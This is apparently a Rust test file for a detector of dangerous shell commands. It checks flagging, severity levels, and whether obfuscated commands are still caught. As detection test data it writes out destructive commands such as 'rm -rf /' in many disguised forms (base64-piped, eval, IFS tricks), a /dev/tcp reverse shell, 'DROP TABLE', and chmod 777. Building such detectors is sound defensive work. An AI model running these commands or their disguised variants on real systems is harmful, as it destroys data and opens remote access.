use proptest::prelude::*;

use super::*;
use crate::shell::reach;

fn found(command: &str) -> Vec<(String, Severity)> {
    findings(command.len(), &reach(command, None))
        .into_iter()
        .map(|finding| (finding.detector, finding.severity))
        .collect()
}

#[test]
fn every_detector_finds_its_cases_and_no_others() {
    let mut wrong = Vec::new();
    for detector in detectors() {
        for command in detector.positive {
            if !found(command).iter().any(|(id, _)| id == detector.id) {
                wrong.push(format!(
                    "{}: {command:?} gives {:?}",
                    detector.id,
                    found(command)
                ));
            }
        }
        for command in detector.negative {
            if found(command).iter().any(|(id, _)| id == detector.id) {
                wrong.push(format!("not {}: {command:?}", detector.id));
            }
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn ordinary_commands_destroy_nothing() {
    for command in [
        "rm file",
        "rm  file",
        "ls -la",
        "cargo test --workspace",
        "git status && git diff",
        "git push origin main",
        "kill 123",
        "chmod +x run.sh",
        "psql -c 'DELETE FROM t WHERE id=1'",
        "grep -rn 'rm -rf' .",
        "echo 'DROP TABLE users' >> notes.md",
        "cat README.md | head -20",
        "make -j4 2>&1 | tee build.log",
        "find . -name '*.rs' | xargs wc -l",
        "docker compose up -d",
        "curl -s https://api.github.com/repos/a/b | jq .name",
        "python3 -m pytest -q",
        "npm run build",
        "sed -i 's/a/b/' src/lib.rs",
        "tar czf a.tgz src",
    ] {
        assert!(found(command).is_empty(), "{command}: {:?}", found(command));
    }
}

#[test]
fn what_is_worse_is_told_as_worse() {
    #[track_caller]
    fn check(command: &str, id: &str, expected: Severity) {
        let severity = found(command)
            .into_iter()
            .find(|(own, _)| own == id)
            .map(|(_, severity)| severity);
        assert_eq!(severity, Some(expected), "{command}");
    }
    check("rm -rf /", "recursive-deletion", Severity::Critical);
    check("rm -rf ~/", "recursive-deletion", Severity::Critical);
    check(
        "rm -rf \"$UNKNOWN\"/*",
        "recursive-deletion",
        Severity::Critical,
    );
    check("rm -rf src", "recursive-deletion", Severity::High);
    check(
        "rm -rf node_modules",
        "recursive-deletion",
        Severity::Medium,
    );
    check("rm -f a", "recursive-deletion", Severity::Medium);
    check(
        "bash -i >& /dev/tcp/10.0.0.1/1 0>&1",
        "reverse-shell",
        Severity::Critical,
    );
    check(
        "echo > /dev/tcp/localhost/80",
        "reverse-shell",
        Severity::Medium,
    );
    check("git push --force", "force-push", Severity::High);
    check("git push --force-with-lease", "force-push", Severity::Low);
    check("chmod 777 a", "open-permissions", Severity::Medium);
    check("chmod -R 777 a", "open-permissions", Severity::High);
    check("psql -c 'DROP TABLE a'", "sql-loss", Severity::Critical);
    check("psql -c 'UPDATE a SET b = 1'", "sql-loss", Severity::Medium);
    check("pip install a", "package-install", Severity::Medium);
    check(
        "pip install git+https://x.example/a",
        "package-install",
        Severity::High,
    );
}

#[test]
fn disguises_of_the_shell_do_not_hide_a_command() {
    for command in [
        "\\rm -rf /",
        "'r'\"m\" -rf /",
        "$'\\x72\\x6d' -rf /",
        "rm${IFS}-rf${IFS}/",
        "{rm,-rf,/}",
        "eval \"rm -rf /\"",
        "sh -c 'rm -rf /'",
        "bash -c \"sh -c 'rm -rf /'\"",
        "A=rm B=-rf; $A $B /",
        "nohup env X=1 timeout 5 nice rm -rf /",
        "echo cm0gLXJmIC8= | base64 -d | sh",
        "sh <<'E'\nrm -rf /\nE\n",
        "f() { rm -rf /; }; f",
        "/bin/rm -rf /",
        "command rm -rf /",
        "true && (rm -rf /)",
        "python3 -c 'import os; os.system(\"rm -rf /\")'",
        "if true; then rm -rf /; fi",
        "echo / | xargs rm -rf",
    ] {
        assert!(
            found(command)
                .iter()
                .any(|(id, _)| id == "recursive-deletion"),
            "{command}: {:?}",
            found(command)
        );
    }
}

#[test]
fn commands_that_are_not_kept_are_told() {
    let command = format!("{}rm -rf /", "ls x\n".repeat(100_000));
    assert!(
        found(&command)
            .iter()
            .any(|(id, _)| id == "too-many-commands")
    );
}

proptest! {
    #[test]
    fn any_text_is_judged(text in any::<String>(), part in "(?:rm|git|push|-f|-rf|/|chmod|777|kill|-9|psql|-c|'|\"|;|\\||drop|delete from t|where| ){0,30}") {
        for command in [text, part] {
            for finding in findings(command.len(), &reach(&command, None)) {
                prop_assert!(finding.range.end <= command.len());
            }
        }
    }
}
